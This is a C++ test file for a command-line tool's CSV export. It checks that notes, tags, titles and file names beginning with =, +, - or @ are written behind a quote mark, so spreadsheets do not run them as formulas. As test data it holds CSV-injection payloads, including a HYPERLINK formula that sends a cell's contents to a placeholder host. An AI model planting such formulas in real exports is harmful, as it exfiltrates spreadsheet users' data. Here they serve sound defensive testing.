    ASSERT_EQ(inStore({QStringLiteral("series"), QStringLiteral("add"), file, QStringLiteral("--title"), QStringLiteral("My growth"),
                   QStringLiteral("--unit"), QStringLiteral("percent")})
                  .exitCode,
              0);
    const CliRun refused = inStore({QStringLiteral("chart"), QStringLiteral("trade-turnover"), QStringLiteral("--csv"),
                                QStringLiteral("--with"), QStringLiteral("my-growth")});
    EXPECT_EQ(refused.exitCode, 1);
    EXPECT_TRUE(oneLine(refused.err)) << refused.err.toStdString();
    for (const char *named : {"My growth", "percent", "USD bn"})
        EXPECT_TRUE(refused.err.contains(named)) << named << ": " << refused.err.toStdString();
    EXPECT_TRUE(refused.out.isEmpty());

    const QString deck = dir.filePath(QStringLiteral("d.pptx"));
    const CliRun written = inStore({QStringLiteral("deck"), QStringLiteral("--charts"), QStringLiteral("trade-turnover,yuan"),
                                QStringLiteral("--with"), QStringLiteral("my-growth"), QStringLiteral("--out"), deck});
    EXPECT_EQ(written.exitCode, 0) << written.err.toStdString();
    EXPECT_TRUE(QFile::exists(deck));
    // Named once, for the time chart; the bar chart takes no series and has nothing to say of it.
    EXPECT_EQ(written.err.count("left out of the deck"), 1) << written.err.toStdString();
    EXPECT_TRUE(written.err.contains("My growth")) << written.err.toStdString();
}

// Issue 18's acceptance: a shared .standpoint file whose notes begin with =, +, - and @ is imported,
// and every CSV the program writes from them holds them as text, not as formulas a spreadsheet runs.
TEST_F(Cli, CsvIsNeutralised)
{
    init();
    QTemporaryDir dir;
    const QStringList dangerous = {QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"click\")"), QStringLiteral("+1+1"),
                                   QStringLiteral("-2+3"), QStringLiteral("@SUM(A1:A9)")};
    // A set file as another machine writes it: this store's own export gives real anchors to build on.
    ASSERT_EQ(inStore({QStringLiteral("set"), QStringLiteral("create"), QStringLiteral("Base")}).exitCode, 0);
    ASSERT_EQ(inStore({QStringLiteral("set"), QStringLiteral("add"), QStringLiteral("1"), QStringLiteral("excerpt"),
                   QStringLiteral("gabuev-2024:0-70")})
                  .exitCode,
              0);
    const QString base = dir.filePath(QStringLiteral("base.standpoint"));
    ASSERT_EQ(inStore({QStringLiteral("set"), QStringLiteral("export"), QStringLiteral("1"), QStringLiteral("--out"), base}).exitCode, 0);
    QFile baseFile(base);
    ASSERT_TRUE(baseFile.open(QIODevice::ReadOnly));
    QJsonObject root = QJsonDocument::fromJson(baseFile.readAll()).object();
    QJsonObject set = root[QStringLiteral("set")].toObject();
    const QJsonObject excerpt = set[QStringLiteral("items")].toArray().first().toObject();
    QJsonArray items, annotations;
    for (qsizetype i = 0; i < dangerous.size(); ++i) {
        QJsonObject item = excerpt;
        item[QStringLiteral("note")] = dangerous[i];
        items << item;
        annotations << QJsonObject{{QStringLiteral("uuid"), QStringLiteral("00000000-0000-4000-8000-00000000000%1").arg(i)},
                                   {QStringLiteral("anchor"), excerpt[QStringLiteral("anchor")]},
                                   {QStringLiteral("color"), QStringLiteral("yellow")},
                                   {QStringLiteral("tags"), QJsonArray{dangerous[i]}},
                                   {QStringLiteral("note"), dangerous[i]}};
    }
    set[QStringLiteral("uuid")] = QStringLiteral("00000000-0000-4000-8000-0000000000ff");
    set[QStringLiteral("title")] = QStringLiteral("=Shared");
    set[QStringLiteral("items")] = items;
    root[QStringLiteral("set")] = set;
    root[QStringLiteral("annotations")] = annotations;
    const QString shared = writeFile(dir.filePath(QStringLiteral("shared.standpoint")), QJsonDocument(root).toJson());
    const CliRun imported = inStore({QStringLiteral("set"), QStringLiteral("import"), shared});
    ASSERT_EQ(imported.exitCode, 0) << imported.err.toStdString();

    // A user's series for the chart data: its notes and its file's name are user text too.
    const QString series = writeFile(dir.filePath(QStringLiteral("@series.csv")),
                                     "year,value,note\n2019,-5,\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\"\n"
                                     "2020,100,+1+1\n2021,110,-2+3\n2022,120,@SUM(A1:A9)\n");
    ASSERT_EQ(inStore({QStringLiteral("series"), QStringLiteral("add"), series, QStringLiteral("--title"), QStringLiteral("Mine"),
                   QStringLiteral("--unit"), QStringLiteral("USD bn")})
                  .exitCode,
              0);

    const QString annotationsCsv = dir.filePath(QStringLiteral("a.csv"));
    ASSERT_EQ(inStore({QStringLiteral("annotations"), QStringLiteral("export"), QStringLiteral("--out"), annotationsCsv}).exitCode, 0);
    QFile annotationsFile(annotationsCsv);
    ASSERT_TRUE(annotationsFile.open(QIODevice::ReadOnly));
    const CliRun chart = inStore({QStringLiteral("chart"), QStringLiteral("trade-turnover"), QStringLiteral("--csv"),
                              QStringLiteral("--with"), QStringLiteral("mine")});
    ASSERT_EQ(chart.exitCode, 0) << chart.err.toStdString();

    for (const auto &[name, bytes, column, expected] :
         {std::tuple{"annotations", annotationsFile.readAll(), "note", dangerous.size()},
          std::tuple{"chart data", chart.out, "quote", dangerous.size()}}) {
        auto table = standpoint::text::parseCsv(QString::fromUtf8(bytes), QString::fromUtf8(name));
        ASSERT_TRUE(table.ok()) << table.message().toStdString();
        QStringList found;
        for (const standpoint::text::CsvRow &row : table->rows) {
            for (const QString &field : row.fields) {
                // No cell a spreadsheet would read as a formula, in any column; a number the program
                // wrote (a negative figure) is data.
                bool number = false;
                field.toDouble(&number);
                EXPECT_FALSE(!number && !field.isEmpty() && QStringLiteral("=+-@\t\r").contains(field.front()))
                    << name << ": " << field.toStdString();
                if (dangerous.contains(field.mid(1)) && field.startsWith(QLatin1Char('\'')))
                    found << field.mid(1);
            }
        }
        // Each dangerous note is there, kept whole behind its quote mark.
        for (const QString &d : dangerous)
            EXPECT_TRUE(found.contains(d)) << name << ": " << d.toStdString() << " is missing from " << column;
        EXPECT_GE(found.size(), qsizetype(expected)) << name;
    }
    // The file's name and the negative figure: the first is text and neutralised, the second a number.
    EXPECT_TRUE(chart.out.contains(",'@series.csv,")) << chart.out.toStdString();
    EXPECT_TRUE(chart.out.contains("user,2019,-5,USD bn")) << chart.out.toStdString();
}
